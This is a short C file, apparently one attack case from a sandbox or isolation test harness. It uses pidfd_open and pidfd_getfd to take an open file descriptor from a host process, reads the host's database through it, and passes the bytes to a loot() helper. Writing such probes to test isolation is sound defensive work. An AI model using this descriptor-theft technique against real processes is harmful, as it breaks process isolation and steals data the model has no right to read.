/* Takes the host's descriptor of the database. */
#include "../attack.h"

static void attack(void) {
    char bytes[256];
    const long host = syscall(SYS_pidfd_open, target_number("host_pid"), 0);
    const long fd = syscall(SYS_pidfd_getfd, host, target_number("host_descriptor"), 0);
    const ssize_t size = pread((int)fd, bytes, sizeof bytes, 0);
    if (size > 0)
        loot(bytes, (size_t)size);
}
